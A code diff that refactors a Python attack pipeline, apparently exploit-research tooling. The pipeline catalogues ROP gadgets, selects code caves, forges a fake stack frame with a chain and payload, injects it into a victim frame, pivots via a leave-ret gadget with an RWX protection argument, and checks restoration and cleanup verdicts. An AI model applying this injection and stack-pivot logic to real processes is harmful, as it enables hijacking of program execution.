@@ -88,6 +88,10 @@ class StageError(RuntimeError):
         self.cause = cause
 
 
+def _hex_extent(start: int, length: int) -> dict[str, str]:
+    return {"start": f"{start:#x}", "len": f"{length:#x}"}
+
+
 @dataclass
 class AttackReport:
     config: PipelineConfig
@@ -133,10 +137,7 @@ class AttackReport:
                 for name, addrs in sorted(self.gadget_census.items())
             }
         if "caves" in self.stages:
-            obj["caves"] = [
-                {"start": f"{c.start:#x}", "len": f"{c.length:#x}"}
-                for c in self.cave_list
-            ]
+            obj["caves"] = [_hex_extent(c.start, c.length) for c in self.cave_list]
         if "inject" in self.stages:
             obj["injection"] = self.injection
         if "execute" in self.stages:
@@ -247,8 +248,7 @@ class Pipeline:
     catalog: gadgets.GadgetCatalog | None = None
     # inject
     victim: injector.VictimFrame | None = None
-    record: injector.RestorationRecord | None = None
-    injection_rec: injector.InjectionRecord | None = None
+    image: injector.FakeFrameImage | None = None
     marker: tuple[int, int] | None = None  # (address, value); payload mode only
     epilogue: int | None = None
     canary_before: bytes | None = None
@@ -384,23 +384,21 @@ def _caves(ctx: Pipeline) -> None:
 
 def _inject(ctx: Pipeline) -> None:
     cfg = ctx.config
-    space, prober = ctx.space, ctx.prober
     stack_ptr = ctx.seeds.pointers[1]
     stack_region = explorer.region_around(ctx.pagemap, stack_ptr)
     victim = injector.locate_victim_frame(
         ctx.pagemap, stack_ptr, stack_region, ctx.code_pages
     )
-    record = injector.restoration_record(victim)
 
     # the image: saved-rbp copy, chain, continuation word; in payload mode
-    # the payload follows at the next 16-byte boundary, zeroes everything
-    # before it, and the marker takes the cave's last word
-    n_words = gadgets.chain_len(cfg.chain_variant) + 2
-    payload_off = (8 * n_words + 15) & ~15
+    # the payload follows, zeroes everything before it, and the marker
+    # takes the cave's last word
+    chain_words = gadgets.chain_len(cfg.chain_variant)
+    payload_off = injector.payload_offset(chain_words)
     if cfg.restore == "payload":
         need_len = payload_off + machine.payload_len(payload_off) + 8
     else:
-        need_len = 8 * n_words
+        need_len = 8 * (chain_words + 2)
     try:
         cave = caves_mod.select_cave(ctx.report.cave_list, need_len)
     except caves_mod.NoCaveError as exc:
@@ -413,30 +411,24 @@ def _inject(ctx: Pipeline) -> None:
     )
     payload = b""
     if cfg.restore == "payload":
-        marker_addr = cave.start + cave.length - 8
         marker_value = random.Random(f"{cfg.seed}:marker").getrandbits(64) | 1
-        ctx.marker = (marker_addr, marker_value)
+        ctx.marker = (cave.start + cave.length - 8, marker_value)
         payload = machine.assemble_payload(
-            record, [(cave.start, payload_off)], ctx.marker
+            victim, [(cave.start, payload_off)], ctx.marker
         )
 
     image = injector.forge_fake_frame(victim, chain, payload, cave)
-    if payload:
-        assert image.payload_addr == cave.start + payload_off
-        assert image.payload_addr + len(payload) <= marker_addr
-
     epilogue = ctx.catalog.lowest("leave-ret")
-    ctx.canary_before = space.read_bytes(victim.canary_slot_addr, 8)
-    rec = injector.inject(space, prober, victim, image, epilogue)
+    ctx.canary_before = ctx.space.read_bytes(victim.canary_slot_addr, 8)
+    injector.inject(ctx.space, ctx.prober, victim, image, epilogue)
 
     ctx.victim = victim
-    ctx.record = record
-    ctx.injection_rec = rec
+    ctx.image = image
     ctx.epilogue = epilogue
     ctx.report.injection = {
-        "cave": {"start": f"{cave.start:#x}", "len": f"{cave.length:#x}"},
+        "cave": _hex_extent(cave.start, cave.length),
         "victim-slot": f"{victim.rbp_slot_addr:#x}",
-        "resume-rip": f"{record.resume_rip:#x}",
+        "resume-rip": f"{victim.resume_rip:#x}",
         "epilogue-gadget": f"{epilogue:#x}",
         "chain-words": [
             {"value": f"{w.value:#x}", "role": w.role} for w in image.words
@@ -446,17 +438,14 @@ def _inject(ctx: Pipeline) -> None:
         ),
         "payload-len": len(payload),
         "marker-addr": f"{ctx.marker[0]:#x}" if ctx.marker else None,
-        "cleanup-ranges": [
-            {"start": f"{s:#x}", "len": f"{l:#x}"}
-            for s, l in rec.cleanup_ranges
-        ],
-        "overwritten": [f"{v:#x}" for v in rec.overwritten],
+        "cleanup-ranges": [_hex_extent(*image.cleanup)],
+        "overwritten": [f"{victim.saved_rbp:#x}", f"{victim.saved_rip:#x}"],
     }
 
 
 def _execute(ctx: Pipeline) -> None:
     cfg = ctx.config
-    victim, record = ctx.victim, ctx.record
+    victim, image = ctx.victim, ctx.image
     state = machine.MachineState()
     # the victim is paused right at its epilogue: base pointer at the
     # frame we armed, stack pointer somewhere below in its locals
@@ -468,13 +457,12 @@ def _execute(ctx: Pipeline) -> None:
         state.set_reg("rdx", machine.PROT_RWX)
     state.rip = ctx.epilogue
     if cfg.restore == "payload":
-        stop_rsp = record.resume_rsp
+        stop_rsp = victim.resume_rsp
     else:
         # the chain's last ret pops the continuation word, the frame's last
-        frame = ctx.injection_rec.frame
-        stop_rsp = frame.base + 8 * len(frame.words)
+        stop_rsp = image.base + 8 * len(image.words)
     result = machine.run_until(
-        state, ctx.space, record.resume_rip, MAX_STEPS, stop_rsp=stop_rsp
+        state, ctx.space, victim.resume_rip, MAX_STEPS, stop_rsp=stop_rsp
     )
 
     effects = [
@@ -498,12 +486,12 @@ def _execute(ctx: Pipeline) -> None:
     # reaching the stop puts rip and rsp where the finished pivot must
     ctx.report.verdicts["restoration"] = (
         result.stop_reason == "reached-stop"
-        and final.reg("rbp") == record.resume_rbp
+        and final.reg("rbp") == victim.resume_rbp
     )
     if cfg.restore == "payload":
-        ctx.report.verdicts["cleanup-zeroed"] = all(
+        start, length = image.cleanup
+        ctx.report.verdicts["cleanup-zeroed"] = (
             ctx.space.read_bytes(start, length) == bytes(length)
-            for start, length in ctx.injection_rec.cleanup_ranges
         )
         marker_addr, marker_value = ctx.marker
         ctx.report.verdicts["marker-written"] = (
